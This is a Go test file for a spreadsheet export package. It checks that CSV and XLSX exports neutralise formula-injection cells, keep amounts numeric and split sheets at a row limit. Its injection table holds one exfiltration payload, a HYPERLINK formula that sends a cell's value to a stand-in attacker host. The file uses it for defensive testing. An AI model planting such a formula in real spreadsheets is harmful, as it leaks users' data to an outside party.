package export

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// injections are cells OWASP's CSV injection guidance names, each with
// what the export must write.
var injections = []struct{ name, in, want string }{
	{"Equals", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
	{"Plus", "+33 1 23 45 67 89", "'+33 1 23 45 67 89"},
	{"Minus", "-20% promo", "'-20% promo"},
	{"At", "@SUM(1+1)", "'@SUM(1+1)"},
	{"Tab", "\t=1+1", "'\t=1+1"},
	{"CarriageReturn", "\r=1+1", "'\r=1+1"},
	{"Plain", "Acme Corp", "Acme Corp"},
	{"Empty", "", ""},
	{"InsideIsFine", "a=b+c", "a=b+c"},
}

func TestNeutralise(t *testing.T) {
	for _, c := range injections {
		t.Run(c.name, func(t *testing.T) {
			if got := Neutralise(c.in); got != c.want {
				t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// injectionTable is one text column of every injection, beside a negative
// amount, which must stay a number.
func injectionTable() Table {
	return Table{Name: "Deals", Header: []string{"name", "amount"}, Rows: func(row func([]Cell) error) error {
		for _, c := range injections {
			if err := row([]Cell{T(c.in), Amount(-1250, "EUR")}); err != nil {
				return err
			}
		}
		return nil
	}}
}

// TestCSVNeutralisesTextNotNumbers: every formula start gets its
// apostrophe in the file (this fails when Neutralise's guard is deleted),
// and the negative amount is written bare, a number.
func TestCSVNeutralisesTextNotNumbers(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, injectionTable()); err != nil {
		t.Fatal(err)
	}
	want := "name,amount\r\n"
	for _, c := range injections {
		f := c.want
		if strings.ContainsAny(f, "\",\r\n") {
			f = `"` + strings.ReplaceAll(strings.ReplaceAll(f, `"`, `""`), "\r", "") + `"`
		}
		want += f + ",-12.50\r\n"
	}
	if got := buf.String(); got != want {
		t.Errorf("CSV:\n%q\nwant\n%q", got, want)
	}
}

// TestXLSXCells opens the workbook and reads its cells back: texts are
// strings, neutralised, never formulas; the amount is a number cell, -12.5,
// shown with two decimals.
func TestXLSXCells(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, injectionTable()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "Deals" {
		t.Fatalf("sheets %q, want [Deals]", got)
	}
	for i, c := range injections {
		name, _ := excelize.CoordinatesToCellName(1, i+2)
		amount, _ := excelize.CoordinatesToCellName(2, i+2)
		got, err := f.GetCellValue("Deals", name)
		if err != nil {
			t.Fatal(err)
		}
		if got != c.want {
			t.Errorf("%s (%s) = %q, want %q", name, c.name, got, c.want)
		}
		if formula, _ := f.GetCellFormula("Deals", name); formula != "" {
			t.Errorf("%s is a formula %q", name, formula)
		}
		typ, err := f.GetCellType("Deals", amount)
		if err != nil {
			t.Fatal(err)
		}
		if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("%s has type %v, want a number", amount, typ)
		}
		raw, _ := f.GetCellValue("Deals", amount, excelize.Options{RawCellValue: true})
		shown, _ := f.GetCellValue("Deals", amount)
		if raw != "-12.5" || shown != "-12.50" {
			t.Errorf("%s = %q shown %q, want -12.5 shown -12.50", amount, raw, shown)
		}
	}
	if h, _ := f.GetCellValue("Deals", "A1"); h != "name" {
		t.Errorf("A1 = %q, want the header", h)
	}
}

// TestXLSXRowLimit: past the rows a sheet holds, the rows go on in a sheet
// "Name (2)" under the header again, none lost (maxRows lowered to 3: the
// header and two rows a sheet).
func TestXLSXRowLimit(t *testing.T) {
	old := maxRows
	maxRows = 3
	t.Cleanup(func() { maxRows = old })
	tb := Table{Name: "History", Header: []string{"n"}, Rows: func(row func([]Cell) error) error {
		for i := range 5 {
			if err := row([]Cell{Int(int64(i))}); err != nil {
				return err
			}
		}
		return nil
	}}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, tb); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var got []string
	for _, s := range f.GetSheetList() {
		rows, err := f.GetRows(s)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			got = append(got, s+":"+strings.Join(r, ","))
		}
	}
	want := []string{"History:n", "History:0", "History:1", "History (2):n", "History (2):2", "History (2):3", "History (3):n", "History (3):4"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("sheets hold %q, want %q", got, want)
	}
}

func TestSheetName(t *testing.T) {
	for _, c := range []struct {
		name string
		i    int
		want string
	}{
		{"Deals", 1, "Deals"},
		{"Deals", 2, "Deals (2)"},
		{"a/b:c", 1, "a_b_c"},
		{strings.Repeat("x", 40), 1, strings.Repeat("x", 31)},
		{strings.Repeat("x", 40), 12, strings.Repeat("x", 26) + " (12)"},
	} {
		if got := sheetName(c.name, c.i); got != c.want {
			t.Errorf("sheetName(%q, %d) = %q, want %q", c.name, c.i, got, c.want)
		}
	}
}
